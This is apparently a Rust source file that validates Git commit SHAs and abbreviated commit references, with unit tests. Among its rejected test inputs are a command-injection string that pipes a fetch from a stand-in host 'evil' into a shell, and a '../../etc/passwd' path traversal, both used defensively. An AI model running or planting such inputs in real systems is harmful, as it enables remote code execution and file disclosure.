//! A Git commit SHA: exactly 40 hexadecimal digits, stored lowercase. Values from GitHub
//! (a run's `head_sha`, a deployment's `sha`) and from inputs become one only through
//! `parse`, so a shell fragment or a path can never pass for a commit. `CommitRef` is the
//! abbreviated form an image tag such as `main-{short_sha}` carries.

use std::fmt;

use serde::Serialize;

#[derive(Debug, Clone, PartialEq, Eq, Hash, Serialize)]
#[serde(transparent)]
pub struct CommitSha(String);

impl CommitSha {
    pub const LEN: usize = 40;

    pub fn parse(raw: &str) -> Result<Self, String> {
        if raw.len() == Self::LEN && raw.bytes().all(|b| b.is_ascii_hexdigit()) {
            return Ok(Self(raw.to_ascii_lowercase()));
        }
        let shown: String = raw.chars().take(60).collect();
        Err(format!(
            "{shown:?} is not a commit SHA (exactly 40 hexadecimal digits)"
        ))
    }

    pub fn as_str(&self) -> &str {
        &self.0
    }

    /// The first seven digits, as Git abbreviates.
    pub fn short(&self) -> &str {
        &self.0[..7]
    }

    /// True when `prefix` is a commit (see [`CommitRef`]) that abbreviates this one.
    pub fn starts_with(&self, prefix: &str) -> bool {
        CommitRef::parse(prefix).is_ok_and(|p| self.0.starts_with(p.as_str()))
    }
}

/// A commit as an image tag may abbreviate it: 7 to 40 hexadecimal digits, lowercase.
#[derive(Debug, Clone, PartialEq, Eq, Hash, Serialize)]
#[serde(transparent)]
pub struct CommitRef(String);

impl CommitRef {
    pub fn parse(raw: &str) -> Result<Self, String> {
        if (7..=CommitSha::LEN).contains(&raw.len()) && raw.bytes().all(|b| b.is_ascii_hexdigit()) {
            return Ok(Self(raw.to_ascii_lowercase()));
        }
        let shown: String = raw.chars().take(60).collect();
        Err(format!(
            "{shown:?} is not a commit (7 to 40 hexadecimal digits)"
        ))
    }

    pub fn as_str(&self) -> &str {
        &self.0
    }
}

impl From<&CommitSha> for CommitRef {
    fn from(sha: &CommitSha) -> Self {
        Self(sha.0.clone())
    }
}

impl fmt::Display for CommitRef {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

impl fmt::Display for CommitSha {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn exactly_forty_hex_digits() {
        let sha = CommitSha::parse(&"AB".repeat(20)).unwrap();
        assert_eq!(sha.as_str(), "ab".repeat(20));
        assert_eq!(sha.short(), "abababa");
        assert!(sha.starts_with("ABABABA"));
        assert!(!sha.starts_with("ababab"), "six digits abbreviate nothing");
        for bad in [
            "",
            "x;curl evil|sh #",
            "../../etc/passwd",
            "0123456",
            &"0".repeat(39),
            &"0".repeat(41),
            &format!("{} ", "0".repeat(39)),
            &"g".repeat(40),
        ] {
            assert!(CommitSha::parse(bad).is_err(), "{bad:?}");
        }
        assert_eq!(CommitRef::parse("ABCDEF0").unwrap().as_str(), "abcdef0");
        assert!(CommitRef::parse("abcdef").is_err());
        assert!(CommitRef::parse("abcdef0;").is_err());
        assert_eq!(CommitRef::from(&sha).as_str(), sha.as_str());
    }
}
